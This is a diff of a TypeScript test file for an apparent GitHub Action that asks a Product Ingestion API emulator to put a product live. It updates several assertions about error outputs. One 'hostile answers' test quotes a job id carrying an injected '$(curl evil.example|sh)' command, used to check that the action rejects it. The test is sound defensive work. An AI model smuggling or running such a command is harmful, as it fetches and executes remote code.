@@ -6,6 +6,7 @@ import { fakeJwt, GITHUB_ISSUER, startIdentityEmulator } from '../../emulator/id
 import { CONFIGURE_SCHEMA, startPiaEmulator, SUBMISSION_SCHEMA, type PiaEmulator } from '../../emulator/pia-emulator.js'
 import { cancelledJob, endlessJob, failedCertificationJob, SUBMISSION_NUMBERS, succeedingJob } from '../../emulator/pia-scenarios.js'
 import { runAction, type RunResult } from '../../scripts/run-action.js'
+import { onlyResults } from '../helpers/results-only.js'
 
 let pia: PiaEmulator
 beforeAll(async () => {
@@ -149,7 +150,7 @@ describe('go live through the Product Ingestion API', () => {
     expect(result.exitCode).toBe(1)
     expectNoPost(result)
     expect(result.stdout).toContain(`::error::contoso-vm cannot go live now: ${why}`)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
   })
 
   it('an unknown product points at the CPP API', async () => {
@@ -298,7 +299,7 @@ describe('hostile answers through the Product Ingestion API', () => {
     const result = await runAction({ inputs: inputs({ wait: 'true' }) })
     expect(result.exitCode).toBe(1)
     expect(posts()).toHaveLength(1)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
     expect(result.stdout).toContain(
       "::error::The go-live request was accepted (HTTP 202), but the service named no job (no jobId made of letters, digits and '-')"
     )
@@ -319,7 +320,7 @@ describe('hostile answers through the Product Ingestion API', () => {
     })
     const result = await runAction({ inputs: inputs({ wait: 'true' }) })
     expect(result.exitCode).toBe(1)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
     expect(pia.requestsTo('GET', other)).toHaveLength(0)
     expect(result.stdout).toContain('publish to preview first')
     expectNoPost(result)
@@ -342,7 +343,7 @@ describe('hostile answers through the Product Ingestion API', () => {
     })
     const result = await runAction({ inputs: inputs({ wait: 'true' }) })
     expect(result.exitCode).toBe(1)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
     expect(result.stdout).toContain(
       `::error::A go-live of the product is already running, but the service lists it under an id the action does not accept ('submission/${guid}/$(curl evil.example|sh)')`
     )
